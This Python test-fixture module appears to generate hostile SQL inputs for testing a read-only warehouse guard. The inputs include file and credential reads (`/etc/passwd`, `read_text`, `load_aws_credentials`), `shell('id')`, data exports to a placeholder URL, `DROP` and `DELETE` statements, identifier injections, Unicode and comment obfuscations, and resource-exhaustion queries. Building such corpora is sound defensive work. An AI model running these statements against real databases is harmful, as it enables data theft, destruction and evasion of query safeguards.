"""Statements that a warehouse must refuse, in families: what each would do is to leave the warehouse, change it, or drown it."""

# ruff: noqa: E501, S608 - statements are data here

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

__all__ = ["Targets", "blind", "calls", "hostile", "sources"]


@dataclass(frozen=True)
class Targets:
    """What a statement would reach for: a file with a secret in it, a folder to write to, a server to call."""

    file: str
    folder: str
    url: str


_STATEMENTS = """
INSERT INTO orders (order_id) VALUES (1)
INSERT INTO orders SELECT * FROM orders
INSERT OR REPLACE INTO orders SELECT * FROM orders
UPDATE orders SET status = 'x' WHERE TRUE
DELETE FROM orders WHERE TRUE
MERGE INTO orders USING orders AS o ON FALSE WHEN NOT MATCHED THEN INSERT ROW
TRUNCATE TABLE orders
CREATE TABLE mine AS SELECT 1 AS x
CREATE OR REPLACE TABLE orders AS SELECT 1 AS x
CREATE TEMP TABLE mine (x INT64)
CREATE VIEW mine AS SELECT 1 AS x
CREATE MATERIALIZED VIEW mine AS SELECT 1 AS x
CREATE EXTERNAL TABLE mine OPTIONS (uris = ['{url}'], format = 'CSV')
CREATE SCHEMA mine
CREATE FUNCTION mine(x INT64) AS (x + 1)
CREATE TEMP FUNCTION mine(x INT64) AS (x + 1)
CREATE TEMP FUNCTION mine() RETURNS STRING LANGUAGE js AS "return 1"
CREATE MACRO mine(x) AS x + 1
CREATE MACRO mine() AS TABLE SELECT * FROM read_text('{file}')
CREATE PROCEDURE mine() BEGIN SELECT 1; END
CREATE MODEL mine OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label
CREATE SEQUENCE mine
CREATE TYPE mine AS ENUM ('a')
CREATE INDEX mine ON orders (order_id)
CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE SNAPSHOT TABLE mine CLONE orders
DROP TABLE orders
DROP TABLE IF EXISTS orders
DROP SCHEMA shop CASCADE
DROP VIEW orders
ALTER TABLE orders ADD COLUMN x INT64
ALTER TABLE orders RENAME TO mine
UNDROP SCHEMA shop
COMMENT ON TABLE orders IS 'mine'
CALL mine()
CALL pragma_version()
EXECUTE IMMEDIATE 'SELECT 1'
EXECUTE mine
PREPARE mine AS SELECT 1
DEALLOCATE mine
DECLARE x INT64 DEFAULT 1
SET x = 1
SET memory_limit = '100GB'
SET enable_external_access = true
SET GLOBAL lock_configuration = false
SET VARIABLE x = 1
SET SESSION search_path = 'main'
SET @@dataset_id = 'mine'
RESET memory_limit
BEGIN
BEGIN TRANSACTION
BEGIN SELECT 1; EXCEPTION WHEN ERROR THEN SELECT 2; END
COMMIT
ROLLBACK
ABORT
START TRANSACTION
EXPORT DATA OPTIONS (uri = '{url}/*.csv', format = 'CSV') AS SELECT * FROM orders
EXPORT DATABASE '{folder}/out'
IMPORT DATABASE '{folder}/out'
LOAD DATA INTO orders FROM FILES (format = 'CSV', uris = ['{url}'])
LOAD httpfs
LOAD '{file}'
FORCE INSTALL httpfs
INSTALL httpfs
INSTALL httpfs FROM '{url}'
INSTALL spatial FROM community
UPDATE EXTENSIONS
COPY orders TO '{folder}/out.csv'
COPY (SELECT * FROM orders) TO '{folder}/out.parquet' (FORMAT parquet)
COPY orders FROM '{file}'
COPY FROM DATABASE warehouse TO other
ATTACH '{folder}/other.duckdb'
ATTACH '{folder}/other.duckdb' AS other (READ_WRITE)
ATTACH '{url}' AS remote
ATTACH ':memory:' AS mine
DETACH warehouse
USE mine
USE shop
PRAGMA database_list
PRAGMA table_info('orders')
PRAGMA memory_limit = '100GB'
PRAGMA enable_profiling
PRAGMA profiling_output = '{folder}/profile.json'
PRAGMA version
EXPLAIN SELECT 1
EXPLAIN ANALYZE SELECT * FROM orders
DESCRIBE orders
DESCRIBE SELECT 1
DESC orders
SHOW TABLES
SHOW ALL TABLES
SHOW DATABASES
SUMMARIZE orders
SUMMARIZE SELECT * FROM orders
CHECKPOINT
FORCE CHECKPOINT
VACUUM
ANALYZE
GRANT SELECT ON TABLE orders TO 'user:a'
REVOKE SELECT ON TABLE orders FROM 'user:a'
KILL 1
IF TRUE THEN SELECT 1; END IF
LOOP SELECT 1; END LOOP
WHILE TRUE DO SELECT 1; END WHILE
REPEAT SELECT 1; UNTIL TRUE END REPEAT
FOR x IN (SELECT 1) DO SELECT 1; END FOR
RETURN
RAISE USING MESSAGE = 'x'
ASSERT (SELECT COUNT(*) FROM orders) > 0
VALUES (1)
TABLE orders
FROM orders
FROM orders SELECT *
FROM orders |> WHERE TRUE
FROM '{file}'
FROM read_csv('{file}')
PIVOT orders ON status USING COUNT(*)
UNPIVOT orders ON order_id
WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x
WITH x AS (SELECT 1) DELETE FROM orders WHERE TRUE
WITH x AS (DELETE FROM orders WHERE TRUE RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO orders SELECT * FROM orders RETURNING *) SELECT * FROM x
"""

_CALLS = """
read_csv('{file}')
read_csv_auto('{file}')
read_csv(['{file}'], header => false)
read_parquet('{file}')
parquet_scan('{file}')
parquet_metadata('{file}')
parquet_schema('{file}')
parquet_file_metadata('{file}')
parquet_kv_metadata('{file}')
read_json('{file}')
read_json_auto('{file}')
read_json_objects('{file}')
read_ndjson('{file}')
read_ndjson_auto('{file}')
read_text('{file}')
read_blob('{file}')
read_xlsx('{file}')
read_csv('{url}/a.csv')
read_text('{url}')
read_parquet('s3://bucket/a.parquet')
sniff_csv('{file}')
glob('{folder}/*')
sqlite_scan('{file}', 'a')
sqlite_attach('{file}')
postgres_scan('host=127.0.0.1', 'a', 'b')
postgres_query('a', 'b')
mysql_query('a', 'b')
iceberg_scan('{file}')
delta_scan('{file}')
st_read('{file}')
http_get('{url}')
http_post('{url}')
load_aws_credentials()
getenv('PATH')
get_env('PATH')
getvariable('x')
current_setting('temp_directory')
set_config('a', 'b', false)
pg_read_file('{file}')
lo_import('{file}')
pg_sleep(1)
shell('id')
system('id')
load_extension('{file}')
query('SELECT 1')
query_table('orders')
query_table(['orders'])
json_execute_serialized_sql('x')
json_serialize_sql('SELECT 1')
json_serialize_plan('SELECT 1')
from_substrait('x'::BLOB)
get_substrait('SELECT 1')
from_json('1', 'x')
duckdb_settings()
duckdb_tables()
duckdb_columns()
duckdb_secrets()
duckdb_functions()
duckdb_databases()
duckdb_extensions()
duckdb_variables()
duckdb_temporary_files()
duckdb_logs()
duckdb_external_file_cache()
pragma_database_list()
pragma_table_info('orders')
pragma_storage_info('orders')
pragma_user_agent()
pragma_version()
pragma_platform()
enable_logging('x')
write_log('x')
which_secret('a', 'b')
checkpoint()
force_checkpoint()
summary('orders')
repeat_row(1, num_rows => 1000000000)
range(1000000000000)
generate_series(1, 1000000000000)
test_all_types()
arrow_scan(1, 2, 3)
pandas_scan(1)
python_map_function(1, 2)
seq_scan('orders')
index_scan('orders')
nextval('x')
setseed(0.5)
txid_current()
current_user()
user()
session_user()
SESSION_USER()
current_database()
current_schema()
current_catalog()
current_query()
version()
get_block_size('x')
in_search_path('a', 'b')
error('x')
ERROR('x')
list_transform([1], x -> x)
list_filter([1], x -> TRUE)
list_reduce([1], (a, b) -> a)
ARRAY_FILTER([1], e -> TRUE)
ARRAY_TRANSFORM([1], e -> e)
apply([1], lambda x: x)
COLUMNS('.*')
COLUMNS(*)
UNPACK(COLUMNS(*))
add_parquet_key('a', 'b')
bar(1, 0, 1000000000, 1000000000)
EXTERNAL_QUERY('project.eu.connection', 'SELECT 1')
EXTERNAL_OBJECT_TRANSFORM(TABLE orders, ['SIGNED_URL'])
ML.PREDICT(MODEL mine, TABLE orders)
ML.GENERATE_TEXT(MODEL mine, TABLE orders, STRUCT(1 AS a))
ML.FORECAST(MODEL mine)
ML.EVALUATE(MODEL mine)
AI.GENERATE('say hello')
AI.GENERATE_TABLE(MODEL mine, TABLE orders, STRUCT(1 AS a))
AI.FORECAST(TABLE orders, data_col => 'a', timestamp_col => 'b')
VECTOR_SEARCH(TABLE orders, 'a', TABLE orders)
APPENDS(TABLE orders, NULL, NULL)
CHANGES(TABLE orders, NULL, CURRENT_TIMESTAMP())
GAP_FILL(TABLE orders, ts_column => 'a', bucket_width => INTERVAL 1 DAY)
SEARCH(orders, 'x')
OBJ.FETCH_METADATA('a')
OBJ.GET_ACCESS_URL('a', 'r')
KEYS.NEW_KEYSET('AEAD_AES_GCM_256')
KEYS.KEYSET_CHAIN('a', b'b')
AEAD.DECRYPT_STRING(b'a', b'b', 'c')
DETERMINISTIC_DECRYPT_STRING(b'a', b'b', 'c')
NET.HOST('{url}')
HLL_COUNT.INIT(1)
DLP_DETERMINISTIC_DECRYPT(b'a', 'b', 'c')
SAFE.read_text('{file}')
shop.read_text('{file}')
main.read_csv('{file}')
system.main.read_text('{file}')
mine(1)
mine.mine(1)
`read_text`('{file}')
`main`.`read_text`('{file}')
"""

_SOURCES = """
`{file}`
'{file}'
"{file}"
`{file}` AS orders
`{folder}/*.csv`
`../../etc/passwd`
`.`
`/etc/passwd`
`file:///etc/passwd`
`file://{file}`
`{url}/data.csv`
'{url}/data.parquet'
`s3://bucket/data.parquet`
`gs://bucket/data.parquet`
`hf://datasets/a/b.csv`
`data.csv`
`data.parquet`
`data.json`
`data.csv.gz`
`orders.csv`
`shop.orders.csv`
`shop`.`orders.csv`
`shop`.`orders`.`csv`
`orders; DROP TABLE orders`
`orders" JOIN read_text('{file}') --`
`orders\\` JOIN read_text('{file}') --`
`orders*`
`shop.orders_*`
INFORMATION_SCHEMA.TABLES
information_schema.columns
`INFORMATION_SCHEMA`.`TABLES`
shop.INFORMATION_SCHEMA.COLUMNS
`shop.INFORMATION_SCHEMA.COLUMNS`
`region-us`.INFORMATION_SCHEMA.JOBS
region-eu.INFORMATION_SCHEMA.TABLES
`region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`
shop.__TABLES__
`shop.__TABLES_SUMMARY__`
sqlite_master
sqlite_schema
sqlite_temp_master
pg_catalog.pg_tables
pg_tables
pg_class
pg_settings
duckdb_settings
duckdb_tables
duckdb_secrets
duckdb_logs
pragma_database_list
main.interlock_format
interlock_format
`main.interlock_format`
warehouse.main.interlock_format
warehouse.shop.orders
system.information_schema.tables
system.main.duckdb_tables
temp.orders
memory.orders
other.orders
other.shop.orders
other-project.shop.orders
`other-project.shop.orders`
`example.com:project.shop.orders`
bigquery-public-data.samples.shakespeare
`bigquery-public-data.samples.shakespeare`
orders.items
orders.order_id
sys
connection
self
sys.modules
orders AS `a.csv`
orders AS `a b`
(FROM orders)
(FROM '{file}')
(TABLE orders)
(VALUES (1))
(VALUES (1), (2)) AS t(x)
(SHOW TABLES)
(DESCRIBE orders)
(SUMMARIZE orders)
(PIVOT orders ON status USING COUNT(*))
(DELETE FROM orders WHERE TRUE)
(EXPLAIN SELECT 1)
(CALL pragma_version())
TABLE(orders)
ABS(1)
ABS(orders)
GENERATE_ARRAY(1, 10)
SPLIT('{file}')
CURRENT_DATE()
LATERAL (SELECT 1)
LATERAL read_text('{file}')
"""

_CLAUSES = """
SELECT * FROM orders FOR SYSTEM_TIME AS OF TIMESTAMP '2024-01-01'
SELECT * FROM orders FOR SYSTEM TIME AS OF CURRENT_TIMESTAMP()
SELECT * FROM orders AT (VERSION => 1)
SELECT * FROM orders TABLESAMPLE SYSTEM (10 PERCENT)
SELECT * FROM orders USING SAMPLE 10
SELECT * FROM orders PIVOT (COUNT(*) FOR status IN ('shipped'))
SELECT * FROM orders UNPIVOT (a FOR b IN (order_id, customer_id))
SELECT * INTO mine FROM orders
SELECT * FROM orders INTO OUTFILE '{folder}/out'
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR SHARE
SELECT * FROM orders NATURAL JOIN customers
SELECT * FROM orders ASOF JOIN customers ON TRUE
SELECT * FROM orders, LATERAL (SELECT 1)
SELECT * FROM orders LEFT JOIN LATERAL read_text('{file}') ON TRUE
SELECT * FROM orders MATCH_RECOGNIZE (PARTITION BY customer_id ORDER BY order_id MEASURES FIRST(A.order_id) AS x PATTERN (A) DEFINE A AS TRUE)
SELECT * FROM orders START WITH TRUE CONNECT BY PRIOR order_id = order_id
SELECT @x
SELECT @@version
SELECT @@session_id
SELECT ?
SELECT $1
SELECT $x
SELECT :x
SELECT * FROM orders WHERE order_id = @id
SELECT * FROM orders LIMIT @n
SELECT * FROM @table
SELECT * FROM IDENTIFIER('orders')
SELECT * EXCLUDE (order_id) RENAME (status AS s) FROM orders
SELECT * ILIKE '%id' FROM orders
SELECT COLUMNS(c -> c LIKE 'o%') FROM orders
SELECT MIN(COLUMNS(*)) FROM orders
SELECT x -> x
SELECT (x, y) -> x
SELECT [x + 1 for x in [1, 2]]
SELECT {{'a': read_text('{file}')}}
SELECT MAP {{'a': 1}}
SELECT $$read$$
SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 1) COUNT(*) FROM orders
SELECT WITH AGGREGATION_THRESHOLD COUNT(*) FROM orders
SELECT ARRAY(SHOW TABLES)
SELECT ARRAY(DELETE FROM orders WHERE TRUE)
SELECT ARRAY(CALL mine())
SELECT EXISTS(DELETE FROM orders WHERE TRUE)
SELECT (DROP TABLE orders)
SELECT (INSERT INTO orders VALUES (1))
SELECT CAST(1 AS mine)
SELECT CAST('orders' AS REGCLASS)
SELECT CAST(1 AS HUGEINT)
SELECT CAST(1 AS ENUM('a'))
SELECT CAST('POINT(0 0)' AS GEOGRAPHY)
SELECT NEXT VALUE FOR mine
SELECT orders.read_text('{file}') FROM orders
SELECT ('{file}').read_text()
SELECT '{file}'.read_text()
SELECT CURRENT_USER
SELECT `current_user` FROM orders
SELECT SESSION_USER
SELECT `session_user` FROM orders
SELECT CURRENT_ROLE
SELECT `current_role` FROM orders
SELECT CURRENT_CATALOG
SELECT `current_catalog` FROM orders
SELECT CURRENT_SCHEMA
SELECT `current_schema` FROM orders
SELECT PARSE_JSON('1', wide_number_mode => 'round')
SELECT TO_JSON(1, stringify_wide_numbers => TRUE)
SELECT SUM(order_id) FILTER (WHERE read_text('{file}') IS NULL) FROM orders
SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY order_id) FROM orders
SELECT SUM(order_id) OVER (ORDER BY order_id GROUPS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM orders
SELECT SUM(order_id) OVER (ORDER BY order_id ROWS BETWEEN 1 PRECEDING AND CURRENT ROW EXCLUDE TIES) FROM orders
SELECT * FROM orders WHERE CURRENT OF mine
SELECT * FROM UNNEST(read_text('{file}'))
SELECT * FROM UNNEST([1]) AS `a/b.csv`
WITH `{file}` AS (SELECT 1) SELECT * FROM `{file}`
WITH `data.csv` AS (SELECT 1) SELECT * FROM `data.csv`
WITH x(y) AS MATERIALIZED (SELECT 1) SELECT * FROM x
WITH x AS (SELECT * FROM y), y AS (SELECT 1) SELECT * FROM x
WITH x AS (SELECT * FROM x) SELECT * FROM x
SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) AS t, secret
SELECT * FROM secret, (WITH secret AS (SELECT 1) SELECT * FROM secret) AS t
SELECT (WITH secret AS (SELECT 1) SELECT * FROM secret), (SELECT * FROM secret)
WITH x AS (SELECT 1) SELECT * FROM shop.x
SELECT 1 UNION ALL BY NAME SELECT 2
SELECT 1 UNION ALL FROM read_text('{file}')
SELECT 1 UNION ALL VALUES (2)
SELECT 1 LIMIT 10 PERCENT
SELECT
SELECT FROM orders
SELECT * FROM
SELEC 1
SELECT (1
SELECT 1)
SELECT 'a
SELECT `a
SELECT /* a
SELECT 1 +
SELECT ,
SELECT 1 2
SELECT 1 FROM orders orders orders
hello
SELECT REGEXP_EXTRACT('a', 'a{{99999999999999}}') FROM nowhere
SELECT JSON_VALUE('x', '$["a\\'||1"]')
SELECT JSON_VALUE('x', '$."a;b"')
SELECT 1 AS `a"b`
SELECT 1 AS `a\\`b`
SELECT 1 AS `a'b`
SELECT `a" FROM read_text('{file}') --` FROM orders
SELECT STRUCT(1 AS `a': read_text('{file}'), 'b`)
SELECT 1 AS `\\x61\\x22`
SELECT DATE_TRUNC(order_date, `x') FROM orders; DROP TABLE orders --`) FROM orders
SELECT EXTRACT(mine FROM order_date) FROM orders
SELECT DATE_ADD(order_date, INTERVAL 1 mine) FROM orders
"""

_BLIND = """
SELECT rowid_ FROM orders
SELECT sys, connection, self FROM orders
SELECT *
SELECT orders.nothing FROM orders
SELECT `read_text` FROM orders
SELECT `COLUMNS` FROM orders
SELECT JSON_VALUE('x', "$.a'||read_text('{file}')||'")
SELECT JSON_VALUE('x', '$[\\'a"\\'||1]')
SELECT CAST('{file}' AS INT64)
SELECT IEEE_DIVIDE(1, 0)
SELECT SUM(name) FROM customers
"""

_SIZES: tuple[Callable[[], str], ...] = (
    lambda: "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x) SELECT * FROM x",
    lambda: "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n FROM x, x) SELECT COUNT(*) FROM x",
    lambda: "WITH RECURSIVE orders AS (SELECT 1) SELECT * FROM orders",
    lambda: "SELECT * FROM (WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n FROM x) SELECT * FROM x)",
    lambda: "SELECT * FROM UNNEST(GENERATE_ARRAY(1, 1000000000000))",
    lambda: "SELECT * FROM UNNEST(GENERATE_ARRAY(-1000000, 1000000))",
    lambda: "SELECT * FROM UNNEST(GENERATE_ARRAY(1000000, 1, -1))",
    lambda: "SELECT GENERATE_ARRAY(1, order_id) FROM orders",
    lambda: "SELECT GENERATE_ARRAY(1, (SELECT MAX(order_id) FROM orders))",
    lambda: "SELECT GENERATE_ARRAY(1, 10, 0.000000001)",
    lambda: "SELECT GENERATE_ARRAY(1, 1e12)",
    lambda: "SELECT GENERATE_ARRAY(1, CAST('1000000000' AS INT64))",
    lambda: "SELECT GENERATE_TIMESTAMP_ARRAY(TIMESTAMP '0001-01-01', TIMESTAMP '9999-01-01', INTERVAL 1 MICROSECOND)",
    lambda: "SELECT REPEAT('x', 1000000000)",
    lambda: "SELECT REPEAT(name, customer_id) FROM customers",
    lambda: "SELECT REPEAT('x', 1000 * 1000 * 1000)",
    lambda: "SELECT LPAD('x', 2000000000)",
    lambda: "SELECT RPAD('x', 2000000000, 'y')",
    lambda: "SELECT LPAD('x', (SELECT MAX(order_id) FROM orders))",
    lambda: "SELECT " + "(" * 2000 + "1" + ")" * 2000,
    lambda: "SELECT " + "(" * 2000,
    lambda: "SELECT " + "[" * 200 + "1" + "]" * 200,
    lambda: "SELECT " + "ABS(" * 200 + "1" + ")" * 200,
    lambda: "SELECT " + "STRUCT(" * 20 + "1" + ")" * 20,
    lambda: "SELECT " + "STRUCT(" * 24,
    lambda: "SELECT " + "ARRAY<" * 500 + "INT64" + ">" * 500 + "[]",
    lambda: "SELECT " + "IF[" * 22 + "1" + "]" * 22,
    lambda: "SELECT " + "DATE(" * 24 + "1" + ")" * 24 + " FROM nowhere",
    lambda: "SELECT " + "CASE WHEN " * 100 + "TRUE" + " THEN 1 END" * 100,
    lambda: "SELECT " + "NOT " * 2000 + "TRUE",
    lambda: "SELECT " + "- " * 2000 + "1",
    lambda: "SELECT " + "~" * 2000 + "1",
    lambda: "SELECT 1" + " + 1" * 1400,
    lambda: "SELECT 1" + " OR TRUE" * 1400,
    lambda: "SELECT 1" + " || 'a'" * 1000,
    lambda: "SELECT 1" + " UNION ALL SELECT 1" * 400,
    lambda: "SELECT * FROM " + "(SELECT * FROM " * 100 + "orders" + ")" * 100,
    lambda: "SELECT * FROM orders" + " JOIN orders" * 200 + " ON TRUE" * 200,
    lambda: "SELECT a" + ".a" * 1000,
    lambda: "SELECT " + "1," * 4000 + "1",
    lambda: "SELECT '" + "x" * 20_000 + "'",
    lambda: "SELECT 1 " + " " * 20_000,
    lambda: "WITH a AS (" * 100 + "SELECT 1" + ") SELECT 1" * 100,
)

_HIDDEN = ("DROP TABLE orders", "COPY orders TO '{folder}/out.csv'", "SELECT * FROM read_text('{file}')", "ATTACH '{folder}/other.duckdb'")

_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: f"SELECT 1; {text}",
    lambda text: f"SELECT 1;\n{text};",
    lambda text: f";{text}",
    lambda text: f"{text}; SELECT 1",
    lambda text: f"SELECT 1 /* nothing */; /* to see */ {text}",
    lambda text: f"SELECT 1 -- nothing\n; {text}",
    lambda text: f"SELECT 1 # nothing\n; {text}",
    lambda text: f"/* SELECT */ {text}",
    lambda text: f"-- SELECT\n{text}",
    lambda text: f"# SELECT\n{text}",
    lambda text: f"-- SELECT\r{text}" if "SELECT *" in text else f"-- SELECT\r\n{text}",
    lambda text: f"/* /* */ {text} /* */",
    lambda text: f"/**/{text.replace(' ', '/**/')}",
    lambda text: f"/*!{text}*/",
    lambda text: f"/*+ {text} */",
    lambda text: f"SELECT 1 /*'*/; {text} --'",
    lambda text: f"SELECT '\\'; {text} --",
    lambda text: f"SELECT 'a\\\\'; {text} --'",
    lambda text: f"SELECT '''a'; {text} --",
    lambda text: f'SELECT """a"; {text} --',
    lambda text: f"SELECT r'a\\'; {text} --",
    lambda text: f"SELECT b'a'; {text}",
    lambda text: f"SELECT 1 ;;; {text}",
    lambda text: f"BEGIN; {text}; END",
    lambda text: f"BEGIN {text}; END;",
    lambda text: f"({text})",
    lambda text: f"(({text}))",
    lambda text: f"EXECUTE IMMEDIATE '''{text}'''",
    lambda text: f"EXPLAIN {text}",
    lambda text: f"EXPLAIN ANALYZE {text}",
    lambda text: f"WITH x AS ({text}) SELECT * FROM x",
    lambda text: f"SELECT * FROM ({text})",
    lambda text: f"SELECT * FROM ({text}) AS t JOIN orders ON TRUE",
    lambda text: f"SELECT ({text})",
    lambda text: f"SELECT 1 WHERE EXISTS ({text})",
    lambda text: f"SELECT 1 UNION ALL {text}",
    lambda text: f"SELECT 1 UNION ALL ({text})",
    lambda text: f"{text} UNION ALL SELECT 1",
    lambda text: f"CREATE VIEW v AS {text}",
    lambda text: "".join(chr(ord(letter) + 0xFEE0) if letter.isalpha() else letter for letter in text),
    lambda text: text[0] + "\u200b" + text[1:],
    lambda text: text.replace(" ", "\u200b ", 1),
    lambda text: "\ufeff" + text,
    lambda text: text.replace(" ", "\x00 ", 1),
    lambda text: f"SELECT 1\x00; {text}",
    lambda text: f"SELECT 1 /* \u202e */; {text}",
    lambda text: "\u202e" + text,
    lambda text: text.replace(" ", "\u2028", 1),
    lambda text: text.replace(" ", "\x0b", 1),
    lambda text: text.replace(" ", "\x1b[0m ", 1),
    lambda text: text.replace("O", "\u041e").replace("A", "\u0410").replace("E", "\u0415"),
    lambda text: f"SELECT 1\uff1b {text}",
    lambda text: f"SELECT 1\u037e {text}",
    lambda text: "\ud800" + text,
    lambda text: text.replace("T", "\u0130"),
    lambda text: text.encode().decode("latin-1").replace(" ", "\x85", 1),
    lambda text: "SELECT * FROM x" + "".join(f"\\u{ord(letter):04x}" for letter in text),
    lambda text: "\\x" + text.encode().hex(),
    lambda text: "0x" + text.encode().hex(),
    lambda text: f"SELECT FROM_HEX('{text.encode().hex()}') ; EXECUTE IMMEDIATE x",
    lambda text: text.swapcase() if "SELECT" not in text else text.lower(),
)

_EMPTY = (
    "",
    " ",
    "\n\t",
    ";",
    ";;;",
    "-- SELECT 1",
    "# SELECT 1",
    "/* SELECT 1 */",
    "/* */ ; -- x",
    "()",
    "(;)",
    "''",
    "``",
    "\u00a0",
    "\u3000",
)


def calls(targets: Targets) -> list[str]:
    """Calls that reach outside."""
    return _filled(_CALLS, targets)


def sources(targets: Targets) -> list[str]:
    """What a query may not read from."""
    return _filled(_SOURCES, targets)


def clauses(targets: Targets) -> list[str]:
    """Queries with a clause that they may not have."""
    return _filled(_CLAUSES, targets)


def blind(targets: Targets) -> list[str]:
    """Queries that could only read, and fail: what they name is not there, or not what they take it for."""
    return _filled(_BLIND, targets)


def hostile(targets: Targets) -> dict[str, list[str]]:
    """Make all of them, each once, by family."""
    statements = _filled(_STATEMENTS, targets)
    hidden = [text.format(file=targets.file, folder=targets.folder, url=targets.url) for text in _HIDDEN]
    families: dict[str, Iterator[str]] = {
        "statements": iter(statements),
        "several": (f"SELECT 1; {text}" for text in statements),
        "calls": (f"SELECT {call}" for call in calls(targets)),
        "table functions": (f"SELECT * FROM {call}" for call in calls(targets)),
        "sources": (f"SELECT * FROM {source}" for source in sources(targets)),
        "joined sources": (f"SELECT 1 FROM orders AS o JOIN {source} ON TRUE" for source in sources(targets)),
        "clauses": iter(clauses(targets)),
        "sizes": (make() for make in _SIZES),
        "disguises": (disguise(text) for text in hidden for disguise in _DISGUISES),
        "empty": iter(_EMPTY),
    }
    seen: set[str] = set()
    made: dict[str, list[str]] = {}
    for family, texts in families.items():
        made[family] = [text for text in dict.fromkeys(texts) if text not in seen]
        seen.update(made[family])
    return made


def _filled(table: str, targets: Targets) -> list[str]:
    lines = [line for line in table.splitlines() if line]
    return [line.format(file=targets.file, folder=targets.folder, url=targets.url) for line in lines]
